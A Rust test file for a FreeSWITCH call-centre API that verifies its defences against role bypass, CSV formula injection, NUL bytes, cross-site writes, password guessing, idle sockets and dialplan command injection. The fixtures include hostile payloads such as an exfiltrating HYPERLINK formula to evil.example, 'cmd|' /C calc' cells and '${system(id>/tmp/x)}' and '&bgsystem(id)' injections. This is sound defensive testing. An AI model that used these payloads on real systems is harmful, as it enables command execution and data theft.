//! The HTTP API as an attacker meets it: every route checks the role before the body, each
//! field has a role that may change it, exports are spreadsheet-safe, cross-site writes and NUL
//! bytes are refused, database text stays in the log, sign-ins back off, silent sockets are
//! closed, and values FreeSWITCH would expand or split never reach the store.

#[macro_use]
mod common;
mod web_app;

use std::time::Duration;

use common::{TestDb, TestDbRef};
use reqwest::header::{
    AUTHORIZATION, CONTENT_TYPE, COOKIE, ORIGIN, REFERER, RETRY_AFTER, SET_COOKIE,
};
use reqwest::{Client, Response, StatusCode};
use serde_json::{json, Value};
use sqlx::{Connection as _, Executor as _};
use switchdesk::directory::model::{Contact, Organization};
use switchdesk::users::{self, Role};
use web_app::{expect_error, with, App};

/// Who may call a route that changes something.
#[derive(Clone, Copy, Debug)]
enum Who {
    AtLeast(Role),
    /// The agent the path names (`ann`), or a supervisor+.
    TheAgent,
}

/// Every route that changes something: method, path, who may call it, and whether it reads a
/// body. A new route belongs here. (`POST /api/login` is public, `POST /api/logout` anyone's,
/// `POST /api/cdr` mod_xml_cdr's: see tests/cdr_ingest.rs.)
const STATE_CHANGING: &[(&str, &str, Who, bool)] = &[
    ("POST", "/api/users", Who::AtLeast(Role::Admin), true),
    ("POST", "/api/tokens", Who::AtLeast(Role::Admin), true),
    ("PATCH", "/api/users/u", Who::AtLeast(Role::Admin), true),
    ("DELETE", "/api/users/u", Who::AtLeast(Role::Admin), false),
    (
        "POST",
        "/api/users/u/password",
        Who::AtLeast(Role::Admin),
        true,
    ),
    ("POST", "/api/me/password", Who::AtLeast(Role::Agent), true),
    ("PUT", "/api/me/language", Who::AtLeast(Role::Agent), true),
    ("DELETE", "/api/tokens/t", Who::AtLeast(Role::Admin), false),
    ("PUT", "/api/queues/q", Who::AtLeast(Role::Admin), true),
    ("DELETE", "/api/queues/q", Who::AtLeast(Role::Admin), false),
    (
        "PATCH",
        "/api/queues/q/settings",
        Who::AtLeast(Role::Admin),
        true,
    ),
    ("PUT", "/api/agents/ann", Who::AtLeast(Role::Admin), true),
    (
        "DELETE",
        "/api/agents/ann",
        Who::AtLeast(Role::Admin),
        false,
    ),
    ("POST", "/api/agents/ann/status", Who::TheAgent, true),
    (
        "POST",
        "/api/agents/ann/eavesdrop",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "POST",
        "/api/calls/c1/move",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "POST",
        "/api/calls/c1/front",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    ("POST", "/api/contacts", Who::AtLeast(Role::Agent), true),
    ("PUT", "/api/contacts/1", Who::AtLeast(Role::Agent), true),
    (
        "DELETE",
        "/api/contacts/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/organizations",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "PUT",
        "/api/organizations/1",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "DELETE",
        "/api/organizations/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    ("POST", "/api/assets", Who::AtLeast(Role::Agent), true),
    ("PUT", "/api/assets/1", Who::AtLeast(Role::Agent), true),
    (
        "DELETE",
        "/api/assets/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/phonebook/import?kind=contacts",
        Who::AtLeast(Role::Admin),
        true,
    ),
    (
        "POST",
        "/api/blocklist",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "PUT",
        "/api/blocklist/1",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "DELETE",
        "/api/blocklist/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/blocklist/block-caller",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    ("POST", "/api/tickets", Who::AtLeast(Role::Agent), true),
    ("PATCH", "/api/tickets/1", Who::AtLeast(Role::Agent), true),
    (
        "POST",
        "/api/tickets/1/notes",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "POST",
        "/api/tickets/1/escalate",
        Who::AtLeast(Role::Agent),
        true,
    ),
    ("POST", "/api/alarms", Who::AtLeast(Role::Supervisor), true),
    (
        "POST",
        "/api/incidents/1/take",
        Who::AtLeast(Role::Agent),
        false,
    ),
    (
        "POST",
        "/api/incidents/1/resolve",
        Who::AtLeast(Role::Agent),
        false,
    ),
    (
        "PUT",
        "/api/billing/agents/ann",
        Who::AtLeast(Role::Manager),
        true,
    ),
    (
        "PUT",
        "/api/billing/organizations/1",
        Who::AtLeast(Role::Manager),
        true,
    ),
    (
        "POST",
        "/api/outbox/1/retry",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
];

/// A caller below a route's role is refused before the body is read: a broken body gets
/// them 403 (401 without credentials), never a 400 that describes the body. The same broken
/// body from someone who may call the route is read, and refused with 400.
#[tokio::test]
async fn every_state_changing_route_checks_the_role_before_the_body() {
    let app = App::start().await;
    let token = |name: &'static str, role| {
        let store = app.store.clone();
        async move { users::add_api_token(&store, name, role).await.unwrap() }
    };
    let agent = token("agent", Role::Agent).await;
    let supervisor = token("supervisor", Role::Supervisor).await;
    let manager = token("manager", Role::Manager).await;
    let admin = token("admin", Role::Admin).await;
    let ann = token("ann", Role::Agent).await;
    let broken = "{\"name\": [";
    for &(method, path, who, reads_body) in STATE_CHANGING {
        let (below, allowed) = match who {
            Who::AtLeast(Role::Agent) => (None, &agent),
            Who::AtLeast(Role::Supervisor) => (Some(&agent), &supervisor),
            Who::AtLeast(Role::Manager) => (Some(&supervisor), &manager),
            Who::AtLeast(Role::Admin) => (Some(&manager), &admin),
            Who::TheAgent => (Some(&agent), &ann),
        };
        let send = |credential: Option<&String>| {
            let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
            with(
                app.client.request(method, app.url(path)),
                credential.map(String::as_str),
            )
            .header(CONTENT_TYPE, "application/json")
            .body(broken)
            .send()
        };
        let response = send(below).await.unwrap();
        let (status, code) = match below {
            None => (StatusCode::UNAUTHORIZED, "unauthorized"),
            Some(_) => (StatusCode::FORBIDDEN, "forbidden"),
        };
        assert_eq!(response.status(), status, "{method} {path} as {who:?}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["code"], code, "{method} {path}: {body}");
        if reads_body {
            let response = send(Some(allowed)).await.unwrap();
            assert_eq!(
                response.status(),
                StatusCode::BAD_REQUEST,
                "{method} {path} as {who:?} with a broken body"
            );
        }
    }
    app.stop().await;
}

/// Agents keep the phone book current, but what routes calls and faxes is a supervisor's:
/// an agent who changes an organization's fax mailboxes, fax numbers, number ranges, VIP flag
/// or priority (or a contact's VIP flag or priority), or sets one on a new record, gets 403
/// naming the field, and nothing is stored. An agent sending a record back with those fields
/// as they were edits it.
#[tokio::test]
async fn agents_may_not_change_the_fields_that_route_calls_and_faxes() {
    let app = App::start().await;
    app.add_user("ann", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    let ann = app.login("ann").await;
    let sam = app.login("sam").await;
    let acme = json!({
        "name": "Acme",
        "numbers": [
            {"number": "+74951230000", "kind": "main"},
            {"number": "+74951230099", "kind": "fax"},
            {"number": "+7495123", "kind": "range"},
        ],
        "fax_mailboxes": ["fax@acme.example"],
        "vip": true,
        "priority": 2,
    });
    let created = app.post("/api/organizations", Some(&sam), acme).await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let id = created.json::<Value>().await.unwrap()["id"]
        .as_i64()
        .unwrap();
    let path = format!("/api/organizations/{id}");
    let card: Value = app.get(&path, Some(&ann)).await.json().await.unwrap();

    // The record as the agent read it, renamed, with a note and another main number.
    let mut edited = card["organization"].clone();
    edited["name"] = json!("Acme Ltd");
    edited["notes"] = json!("moved to the 5th floor");
    edited["numbers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"number": "8 495 123-00-01", "kind": "main"}));
    let response = app.put(&path, Some(&ann), edited.clone()).await;
    assert_eq!(response.status(), StatusCode::OK);

    let hijacks = [
        ("fax_mailboxes", json!(["thief@evil.example"])),
        ("vip", json!(false)),
        ("priority", json!(9)),
        (
            "numbers of kind fax",
            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74959999999", "kind": "fax"}, {"number": "+7495123", "kind": "range"}]),
        ),
        (
            "numbers of kind range",
            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74951230099", "kind": "fax"}, {"number": "+7499", "kind": "range"}]),
        ),
    ];
    for (field, value) in &hijacks {
        let key = if field.starts_with("numbers") {
            "numbers"
        } else {
            field
        };
        let mut hijack = edited.clone();
        hijack[key] = value.clone();
        let body = expect_error(
            app.put(&path, Some(&ann), hijack).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
        let message = body["error"].as_str().unwrap();
        assert!(
            message.contains(field) && message.contains("supervisor"),
            "{field}: {body}"
        );
        // Nor on a new record (judged against an empty one).
        let mut new = json!({"name": "Beta"});
        new[key] = if *value == json!(false) {
            json!(true)
        } else {
            value.clone()
        };
        expect_error(
            app.post("/api/organizations", Some(&ann), new).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
    }
    let stored: Organization = app.store.record(id).await.unwrap();
    assert_eq!(stored.name, "Acme Ltd");
    assert_eq!(stored.fax_mailboxes, vec!["fax@acme.example"]);
    assert!(stored.vip);
    assert_eq!(stored.numbers.len(), 4);
    assert_eq!(
        app.store
            .records_after::<Organization>(0, 10)
            .await
            .unwrap()
            .len(),
        1,
        "no organization was created by the refused requests"
    );
    // A new organization with everyday fields only is the agent's to create...
    let beta = json!({"name": "Beta", "numbers": [{"number": "+74957770000", "kind": "main"}]});
    assert_eq!(
        app.post("/api/organizations", Some(&ann), beta)
            .await
            .status(),
        StatusCode::CREATED
    );
    // ...and the guarded fields are the supervisor's.
    let mut moved = edited.clone();
    moved["fax_mailboxes"] = json!(["faxes@acme.example"]);
    assert_eq!(
        app.put(&path, Some(&sam), moved).await.status(),
        StatusCode::OK
    );

    // Contacts: VIP and priority.
    let body = expect_error(
        app.post(
            "/api/contacts",
            Some(&ann),
            json!({"first_name": "Ivan", "vip": true}),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert!(body["error"].as_str().unwrap().contains("vip"), "{body}");
    let ivan = app
        .post(
            "/api/contacts",
            Some(&ann),
            json!({"first_name": "Ivan", "organization_id": id}),
        )
        .await;
    assert_eq!(ivan.status(), StatusCode::CREATED);
    let ivan: Value = ivan.json().await.unwrap();
    let contact_path = format!("/api/contacts/{}", ivan["id"]);
    let mut raised = ivan.clone();
    raised["priority"] = json!(3);
    let body = expect_error(
        app.put(&contact_path, Some(&ann), raised.clone()).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("priority"),
        "{body}"
    );
    raised["vip"] = json!(true);
    assert_eq!(
        app.put(&contact_path, Some(&sam), raised.clone())
            .await
            .status(),
        StatusCode::OK
    );
    // The agent's edit form sends the standing back as it was: that is fine.
    raised["last_name"] = json!("Petrov");
    assert_eq!(
        app.put(&contact_path, Some(&ann), raised).await.status(),
        StatusCode::OK
    );
    let stored: Contact = app
        .store
        .record(ivan["id"].as_i64().unwrap())
        .await
        .unwrap();
    assert_eq!(
        (stored.last_name.as_str(), stored.vip, stored.priority),
        ("Petrov", true, 3)
    );
    app.stop().await;
}

/// Every CSV export writes a cell a spreadsheet would run as a formula as text (a leading
/// `'`), keeps phone numbers and amounts as they are, and quotes every field; the phone book's
/// export imports back to the same names.
#[tokio::test]
async fn csv_exports_write_formulas_as_text() {
    let app = App::start().await;
    app.add_user("ada", Role::Admin).await;
    let ada = app.login("ada").await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
        "+cmd|' /C calc'!A0",
    ];
    for (i, name) in names.iter().enumerate() {
        let created = app
            .post(
                "/api/organizations",
                Some(&ada),
                json!({"name": name, "numbers": [{"number": format!("+7495555000{i}"), "kind": "main"}], "priority": -1}),
            )
            .await;
        assert_eq!(created.status(), StatusCode::CREATED);
        let id = created.json::<Value>().await.unwrap()["id"]
            .as_i64()
            .unwrap();
        let fee = app
            .put(
                &format!("/api/billing/organizations/{id}"),
                Some(&ada),
                json!({"monthly_fee_cents": 1000}),
            )
            .await;
        assert_eq!(fee.status(), StatusCode::OK);
        let ticket = app
            .post(
                "/api/tickets",
                Some(&ada),
                json!({"subject": name, "organization_id": id, "caller_number": format!("+7495555000{i}")}),
            )
            .await;
        assert_eq!(ticket.status(), StatusCode::CREATED);
    }
    let cells = |text: &str| -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let phonebook = app
        .get("/api/phonebook/export?kind=organizations", Some(&ada))
        .await
        .text()
        .await
        .unwrap();
    let report = app
        .get(
            "/api/reports/profitability?from=2020-01-01&format=csv",
            Some(&ada),
        )
        .await
        .text()
        .await
        .unwrap();
    let tickets = app
        .get("/api/tickets?format=csv", Some(&ada))
        .await
        .text()
        .await
        .unwrap();
    // The tickets' subjects, and their organizations' names.
    // Downloads start with a byte order mark for Excel; the phone book's export does not.
    let report = report
        .strip_prefix('\u{feff}')
        .unwrap_or(&report)
        .to_owned();
    let tickets = tickets
        .strip_prefix('\u{feff}')
        .unwrap_or(&tickets)
        .to_owned();
    for (text, name_column) in [(&phonebook, 1), (&report, 1), (&tickets, 1), (&tickets, 7)] {
        assert!(text.starts_with('"'), "every field is quoted: {text}");
        let rows = cells(text);
        let mut written: Vec<&str> = rows.iter().map(|r| r[name_column].as_str()).collect();
        written.sort_unstable();
        let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
        expected.sort();
        assert_eq!(written, expected, "{text}");
        for cell in rows.iter().flatten() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                && !cell
                    .trim_start_matches(['+', '-'])
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.');
            assert!(!formula, "{cell:?} in {text}");
        }
    }
    // Numbers stay numbers: the priority, and the phone numbers inside `phones`.
    assert!(phonebook.contains("\"-1\""), "{phonebook}");
    assert!(phonebook.contains("\"main:+74955550000\""), "{phonebook}");

    // Importing the export gives the names back as they were typed.
    let imported = with(
        app.client
            .post(app.url("/api/phonebook/import?kind=organizations")),
        Some(&ada),
    )
    .header(CONTENT_TYPE, "text/csv")
    .body(phonebook.clone())
    .send()
    .await
    .unwrap();
    assert_eq!(imported.status(), StatusCode::OK);
    let report: Value = imported.json().await.unwrap();
    assert_eq!(report["saved"], 4, "{report}");
    let mut stored: Vec<String> = app
        .store
        .records_after::<Organization>(0, 100)
        .await
        .unwrap()
        .into_iter()
        .map(|o| o.name)
        .collect();
    stored.sort();
    let mut twice: Vec<String> = names.iter().chain(&names).map(|n| n.to_string()).collect();
    twice.sort();
    assert_eq!(stored, twice);
    app.stop().await;
}

/// A NUL character reaches no database: in a JSON body (named by its field), a query
/// parameter or the path it is refused with 400, and nothing is stored. And when the
/// database does fail, the answer carries an error id, never the database's words.
async fn text_with_a_nul_is_refused_and_database_errors_stay_in_the_log(db: TestDbRef) {
    let app = App::on(&db.store, &db.url).await;
    app.add_user("sam", Role::Supervisor).await;
    let sam = app.login("sam").await;

    let body = expect_error(
        app.post(
            "/api/contacts",
            Some(&sam),
            json!({"first_name": "Iv\u{0}an"}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("body.first_name"),
        "{body}"
    );
    let body = expect_error(
        app.post(
            "/api/organizations",
            Some(&sam),
            json!({"name": "Acme", "numbers": [{"number": "+7495\u{0}"}]}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("body.numbers[0].number"),
        "{body}"
    );
    for path in [
        "/api/contacts/search?q=iv%00an",
        "/api/tickets?caller_number=%2B7495%00",
        "/api/blocklist/check?number=%00",
        "/api/agents/sam%00",
    ] {
        let body = expect_error(
            app.get(path, Some(&sam)).await,
            StatusCode::BAD_REQUEST,
            "bad_request",
        )
        .await;
        assert!(
            body["error"].as_str().unwrap().contains("NUL"),
            "{path}: {body}"
        );
    }
    let nothing: Vec<Contact> = db.store.records_after(0, 10).await.unwrap();
    assert!(nothing.is_empty(), "{nothing:?}");
    // The same text without the NUL is stored.
    assert_eq!(
        app.post("/api/contacts", Some(&sam), json!({"first_name": "Ivan"}))
            .await
            .status(),
        StatusCode::CREATED
    );

    db.drop_table("tickets").await;
    let response = app.get("/api/tickets", Some(&sam)).await;
    let body = expect_error(response, StatusCode::INTERNAL_SERVER_ERROR, "internal").await;
    let text = body.to_string();
    for leak in [
        "tickets",
        "no such table",
        "relation",
        "SELECT",
        "database",
        "sqlx",
    ] {
        assert!(!text.contains(leak), "{leak:?} in {text}");
    }
    assert!(text.contains("internal error "), "{text}");
    app.stop().await;
}

on_both_backends!(text_with_a_nul_is_refused_and_database_errors_stay_in_the_log);

/// Writes riding on the session cookie must come from this site's own pages: a page elsewhere
/// (or a request naming no page at all) is refused before anything changes.
#[tokio::test]
async fn cross_site_writes_with_a_session_cookie_are_refused() {
    let app = App::start().await;
    app.add_user("ada", Role::Admin).await;
    let ada = app.login("ada").await;
    // A client that sends no Origin of its own.
    let bare = Client::new();
    let organizations = || {
        let (app, ada) = (&app, &ada);
        async move {
            app.get("/api/organizations", Some(ada))
                .await
                .text()
                .await
                .unwrap()
        }
    };
    let body = json!({ "name": "Forged Ltd" });

    let evil = app
        .client
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "http://evil.example")
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(evil, StatusCode::FORBIDDEN, "forbidden").await;
    let no_origin = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(no_origin, StatusCode::FORBIDDEN, "forbidden").await;
    let evil_referer = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(REFERER, "http://evil.example/page")
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(evil_referer, StatusCode::FORBIDDEN, "forbidden").await;
    assert!(!organizations().await.contains("Forged"));

    // The import takes a file only with a type no cross-site form can send.
    let csv = "external_id,first_name,last_name\nc-9,Eve,Forger\n";
    for (origin, content_type, status) in [
        ("http://evil.example", "text/plain", StatusCode::FORBIDDEN),
        (
            app.base.as_str(),
            "text/plain",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            app.base.as_str(),
            "application/x-www-form-urlencoded",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
    ] {
        let response = app
            .client
            .post(app.url("/api/phonebook/import?kind=contacts"))
            .header(COOKIE, &ada)
            .header(ORIGIN, origin)
            .header(CONTENT_TYPE, content_type)
            .body(csv)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), status, "{origin} {content_type}");
    }
    let contacts = app.get("/api/contacts", Some(&ada)).await.text().await;
    assert!(!contacts.unwrap().contains("Forger"));

    // Bodiless writes too: signing out from another site leaves the session alone.
    let logout = app
        .client
        .post(app.url("/api/logout"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "http://evil.example")
        .send()
        .await
        .unwrap();
    expect_error(logout, StatusCode::FORBIDDEN, "forbidden").await;
    let delete = app
        .client
        .delete(app.url("/api/tokens/anything"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "null")
        .send()
        .await
        .unwrap();
    expect_error(delete, StatusCode::FORBIDDEN, "forbidden").await;
    assert_eq!(
        app.get("/api/me", Some(&ada)).await.status(),
        StatusCode::OK
    );
    // Nor can another site sign a browser in (to an account of its choosing).
    let login = app
        .client
        .post(app.url("/api/login"))
        .header(ORIGIN, "http://evil.example")
        .json(&json!({ "name": "ada", "password": "ada-password" }))
        .send()
        .await
        .unwrap();
    assert!(login.headers().get(SET_COOKIE).is_none());
    expect_error(login, StatusCode::FORBIDDEN, "forbidden").await;

    // From the dashboard itself: by Origin, or by Referer from a browser that sends no Origin.
    let ours = app
        .post("/api/organizations", Some(&ada), body.clone())
        .await;
    assert_eq!(ours.status(), StatusCode::CREATED);
    let by_referer = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(REFERER, app.url("/#admin"))
        .json(&json!({ "name": "Referred Ltd" }))
        .send()
        .await
        .unwrap();
    assert_eq!(by_referer.status(), StatusCode::CREATED);
    // API tokens are not sent by browsers on their own: no Origin needed.
    let token = users::add_api_token(&app.store, "script", Role::Admin)
        .await
        .unwrap();
    let scripted = bare
        .post(app.url("/api/organizations"))
        .header(AUTHORIZATION, format!("Bearer {token}"))
        .json(&json!({ "name": "Scripted Ltd" }))
        .send()
        .await
        .unwrap();
    assert_eq!(scripted.status(), StatusCode::CREATED);
    let listed = organizations().await;
    assert!(
        listed.contains("Forged Ltd")
            && listed.contains("Referred Ltd")
            && listed.contains("Scripted Ltd"),
        "{listed}"
    );
    app.stop().await;
}

/// The `Retry-After` of a 429, in seconds.
fn retry_after(response: &Response) -> u64 {
    response.headers()[RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap()
}

/// Signs in through a proxy that says the client is `forwarded_for`.
async fn login_from(app: &App, name: &str, password: &str, forwarded_for: &str) -> Response {
    app.client
        .post(app.url("/api/login"))
        .header("x-forwarded-for", forwarded_for)
        .json(&json!({ "name": name, "password": password }))
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn wrong_passwords_lock_the_name_out_even_for_the_right_one() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    app.add_user("bob", Role::Agent).await;
    for _ in 0..5 {
        let wrong = app.try_login("alice", "not-her-password").await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let locked = app.try_login("alice", "alice-password").await;
    assert!(locked.headers().get(SET_COOKIE).is_none());
    let wait = retry_after(&locked);
    assert!((1..=30).contains(&wait), "Retry-After: {wait}");
    expect_error(locked, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    // Others from the same address sign in.
    app.login("bob").await;
    app.stop().await;
}

#[tokio::test]
async fn an_address_guessing_many_names_waits_and_other_addresses_do_not() {
    let app = App::start_with(|config| {
        config.http.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    app.add_user("alice", Role::Agent).await;
    for n in 0..20 {
        let name = format!("guess{n}");
        let wrong = login_from(&app, &name, "password1", "203.0.113.9").await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let held = login_from(&app, "alice", "alice-password", "203.0.113.9").await;
    assert!(retry_after(&held) >= 1);
    expect_error(held, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    // A client behind the proxy cannot claim another address by prepending one.
    let forged = login_from(&app, "alice", "alice-password", "10.1.1.1, 203.0.113.9").await;
    assert_eq!(forged.status(), StatusCode::TOO_MANY_REQUESTS);
    let elsewhere = login_from(&app, "alice", "alice-password", "203.0.113.10").await;
    assert_eq!(elsewhere.status(), StatusCode::OK);
    app.stop().await;
}

#[tokio::test]
async fn forwarded_for_from_an_untrusted_peer_is_ignored() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    for n in 0..20 {
        let address = format!("198.51.100.{n}");
        let wrong = login_from(&app, &format!("guess{n}"), "password1", &address).await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let held = login_from(&app, "alice", "alice-password", "198.51.100.200").await;
    expect_error(held, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    app.stop().await;
}

/// Sockets that send nothing, half a request head or half a body are closed after the header
/// or body timeout, and while they are open the server still answers others once a slot
/// frees.
#[tokio::test]
async fn idle_connections_are_closed_and_do_not_starve_the_server() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

    let app = App::start_with(|config| {
        config.http.max_connections = 8;
        config.http.header_read_timeout_secs = 1;
        config.http.body_timeout_secs = 1;
    })
    .await;
    app.add_user("alice", Role::Agent).await;
    let address = app.base.trim_start_matches("http://").to_string();
    // Nothing, half a head, or a whole head and half the body it announces.
    let starts: [&[u8]; 3] = [
        b"",
        b"GET /healthz HTTP/1.1\r\nHost: x\r\n",
        b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"name\":",
    ];
    let mut idle = Vec::new();
    for n in 0..58 {
        let mut socket = tokio::net::TcpStream::connect(&address).await.unwrap();
        socket.write_all(starts[n % 3]).await.unwrap();
        idle.push(socket);
    }
    // A generous bound on the whole test, not a timing assertion.
    let bound = Duration::from_secs(60);
    let client = Client::builder()
        .pool_max_idle_per_host(0)
        .timeout(bound)
        .build()
        .unwrap();
    let health = client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), StatusCode::OK);
    let login = client
        .post(app.url("/api/login"))
        .json(&json!({ "name": "alice", "password": "alice-password" }))
        .send()
        .await
        .unwrap();
    assert_eq!(login.status(), StatusCode::OK);
    tokio::time::timeout(bound, async {
        for socket in &mut idle {
            let mut rest = Vec::new();
            // End of stream or a reset: either way the server let go of it.
            let _ = socket.read_to_end(&mut rest).await;
        }
    })
    .await
    .expect("every idle socket is closed by the server");
    app.stop().await;
}

/// Values that go into FreeSWITCH commands are refused when they would expand (`${...}`), chain
/// an application (`&app`) or add arguments, with the field and the reason, and nothing of the
/// request is stored.
#[tokio::test]
async fn values_freeswitch_would_expand_or_split_are_refused_and_not_stored() {
    let app = App::start().await;
    app.add_user("root", Role::Admin).await;
    app.add_user("sam", Role::Supervisor).await;
    let admin = app.login("root").await;
    let sam = app.login("sam").await;
    let refused = |body: Value, field: &'static str, reason: &'static str| {
        let error = body["error"].as_str().unwrap_or_default().to_owned();
        assert!(error.contains(field), "{field} not named: {body}");
        assert!(error.contains(reason), "{reason} not given: {body}");
    };

    // A supervisor's blocklist prompt (it became `execute-app-arg: ${system(...)}`).
    let prompt = json!({
        "match": {"type": "number", "value": "+74951234567"},
        "direction": "inbound",
        "treatment": {"type": "prompt", "file": "${system(id>/tmp/x)}"}
    });
    let body = expect_error(
        app.post("/api/blocklist", Some(&sam), prompt).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "file", "'$'");
    let transfer = json!({
        "match": {"type": "number", "value": "+74951234567"},
        "direction": "inbound",
        "treatment": {"type": "transfer", "extension": "voicemail XML other_ctx"}
    });
    let body = expect_error(
        app.post("/api/blocklist", Some(&sam), transfer).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "extension", "' '");
    let body = expect_error(
        app.post(
            "/api/blocklist/block-caller",
            Some(&sam),
            json!({"call": "c1", "treatment": {"type": "prompt", "file": "say:${bgsystem id}"}}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "file", "'$'");
    assert!(app.store.blocks().await.unwrap().is_empty());

    // An admin's queue settings: a good queue first, then each bad edit of it.
    let good = json!({ "prompts": { "hold_music": "local_stream://moh" } });
    let saved = app.put("/api/queues/support", Some(&admin), good).await;
    assert_eq!(saved.status(), StatusCode::NO_CONTENT);
    let before = app.store.queues().await.unwrap();
    for (body, field, reason) in [
        (
            json!({ "prompts": { "hold_music": "${system(id>/tmp/x)}" } }),
            "prompts.hold_music",
            "'$'",
        ),
        (
            json!({ "prompts": { "position": ["ivr/a.wav", "{system}"] } }),
            "prompts.position",
            "placeholder",
        ),
        (
            json!({ "exit_key": "0", "exit_extension": "voicemail XML other_ctx" }),
            "exit_extension",
            "' '",
        ),
        (
            json!({ "callbacks": { "key": "1", "dial": "user/{number}@pstn &bgsystem(id)" } }),
            "callbacks.dial",
            "'&'",
        ),
        (
            json!({ "overflow": { "to": "extension", "target": "voicemail|user/1" } }),
            "overflow",
            "'|'",
        ),
        (
            json!({ "callbacks": { "caller_id_name": "x',origination_uuid=y" } }),
            "callbacks.caller_id_name",
            "quotes",
        ),
    ] {
        let response = app.put("/api/queues/support", Some(&admin), body).await;
        let body = expect_error(response, StatusCode::BAD_REQUEST, "bad_request").await;
        refused(body, field, reason);
    }
    assert_eq!(app.store.queues().await.unwrap(), before);

    // An agent's endpoint goes into an originate after switchdesk's own variables.
    let body = expect_error(
        app.put(
            "/api/agents/ann",
            Some(&admin),
            json!({ "endpoint": "user/1001@default&bgsystem(id)", "queues": [] }),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "endpoint", "'&'");
    assert!(app.store.agents().await.unwrap().is_empty());

    // A value stored before these checks (or by hand) is refused when read, with the reason.
    let mut raw = sqlx::AnyConnection::connect(&app._db.as_ref().unwrap().url)
        .await
        .unwrap();
    raw.execute(
        "UPDATE acd_queues SET config = REPLACE(config, 'local_stream://moh', '${system(id)}')",
    )
    .await
    .unwrap();
    raw.close().await.unwrap();
    let error = app.store.queues().await.unwrap_err().to_string();
    assert!(
        error.contains("support") && error.contains("'$'"),
        "{error}"
    );
    app.stop().await;
}
